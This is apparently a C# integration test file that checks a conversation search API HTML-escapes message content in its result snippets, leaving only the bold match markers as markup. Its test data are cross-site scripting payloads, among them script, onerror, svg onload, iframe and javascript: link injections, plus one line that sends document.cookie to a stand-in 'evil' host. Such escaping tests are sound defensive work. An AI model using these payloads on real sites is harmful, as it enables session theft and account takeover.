using Monolith.Tests.Support;
using static Monolith.Tests.Core.Conversations.ConversationsApi;

namespace Monolith.Tests.Core.Conversations;

public sealed class SearchSnippetsEscapeMarkupFromMessages(MonolithFixture fixture) : IntegrationTest(fixture)
{
    [Theory]
    [InlineData("look <img src=x onerror=alert(1)> kittens here")]
    [InlineData("<img src=x onerror=\"fetch('//evil/'+document.cookie)\"> kittens")]
    [InlineData("<script>steal()</script> kittens")]
    [InlineData("fake <b>bold</b> & \"quoted\" 'single' kittens")]
    [InlineData("<a href=\"javascript:alert(1)\">kittens</a>")]
    [InlineData("<svg/onload=alert(1)>kittens<!-- x --> &lt;already&gt;")]
    [InlineData("kittens <iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    public async Task OnlyTheMatchMarkersAreMarkup(string content)
    {
        var snippet = await SnippetAsync(content);

        Assert.Contains("<b>kittens</b>", snippet, StringComparison.Ordinal);
        var text = snippet.Replace("<b>", string.Empty, StringComparison.Ordinal).Replace("</b>", string.Empty, StringComparison.Ordinal);
        Assert.DoesNotContain('<', text);
        Assert.DoesNotContain('>', text);
        Assert.DoesNotContain('"', text);
        Assert.DoesNotContain('\'', text);
    }

    [Fact]
    public async Task MarkupTheHeadlineKeepsArrivesAsEscapedText()
    {
        var snippet = await SnippetAsync("look <img src=x onerror=alert(1)> kittens & \"more\"");
        Assert.StartsWith("look &lt;img src=x onerror=alert(1)&gt; <b>kittens</b> &amp; &quot;more", snippet, StringComparison.Ordinal);
    }

    [Fact]
    public async Task MarkerCharactersInTheMessageCannotForgeAHighlight()
    {
        var snippet = await SnippetAsync("markers \uE000smuggled\uE001 kittens");
        Assert.Equal("markers smuggled <b>kittens</b>", snippet);
    }

    private async Task<string> SnippetAsync(string content)
    {
        var client = Fixture.Client();
        var id = await StartIdAsync(client, 42);
        await AppendAsync(client, id, content);
        var hits = (await GetAsync(client, $"/api/conversations/search?userId=42&q=kittens")).EnumerateArray().ToList();
        return Assert.Single(hits).GetProperty("snippet").GetString()!;
    }
}
